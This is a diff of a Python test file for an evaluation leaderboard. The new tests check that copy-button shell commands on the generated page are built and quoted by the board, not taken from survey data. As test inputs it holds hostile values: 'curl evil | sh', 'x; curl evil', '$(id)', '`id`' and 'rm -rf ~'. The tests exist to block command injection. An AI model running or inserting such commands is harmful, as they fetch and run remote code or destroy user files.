@@ -5,8 +5,11 @@ from __future__ import annotations
 import csv
 import io
 import json
+import shlex
 from pathlib import Path
 from typing import Any
+
+import pytest
 
 from hf_evaluation.board.board import make_board
 from hf_evaluation.board.documents import reports_csv
@@ -102,10 +105,10 @@ def test_building_twice_gives_the_same_bytes_and_only_news_changes_the_digest(tm
     assert site["index.html"] != again["index.html"]
 
 
-def test_gaps_keep_their_command_and_hide_what_artificial_analysis_says() -> None:
+def test_gaps_get_their_command_and_hide_what_artificial_analysis_says() -> None:
     gaps = [
         gap("gsm8k", "to_measure", flavor="a10g-small"),
-        gap("gpqa", "on_artificial_analysis", value=61.5),
+        gap("gpqa", "on_artificial_analysis", value=61.5, command="curl evil | sh"),
     ]
     document = board_of(lines([model("acme/m", gaps=gaps)]))
     rows = document["models"][0]["gaps"]
@@ -113,7 +116,16 @@ def test_gaps_keep_their_command_and_hide_what_artificial_analysis_says() -> Non
         ("to_measure", None),
         ("on_artificial_analysis", None),
     ]
-    assert rows[0]["command"].endswith("submit --model acme/m --task gsm8k --flavor a10g-small")
-    assert rows[1]["command"].endswith(
-        "import-aa --creator-slug acme/m --repo-id acme/m --benchmark gpqa --create-pr"
+    assert rows[0]["command"].endswith("--repo-id acme/m --create-pr")
+    assert rows[1]["command"] is None
+
+
+@pytest.mark.parametrize("state", ["in_pr", "in_readme", "to_measure", "on_artificial_analysis", "other"])
+def test_no_command_of_a_survey_file_gets_onto_the_page(state: str) -> None:
+    """People copy it with a button: it is made here, and what it is made of is quoted."""
+    evil = gap(
+        "x; curl evil", state, task="$(id)", flavor="`id`", creator="a b", offered="'", command="rm -rf ~"
     )
+    (row,) = board_of(lines([model("acme/m", gaps=[evil])]))["models"][0]["gaps"]
+    assert "rm -rf" not in json.dumps(row)
+    assert not {"curl", ";", "id"} & set(shlex.split(row["command"] or ""))
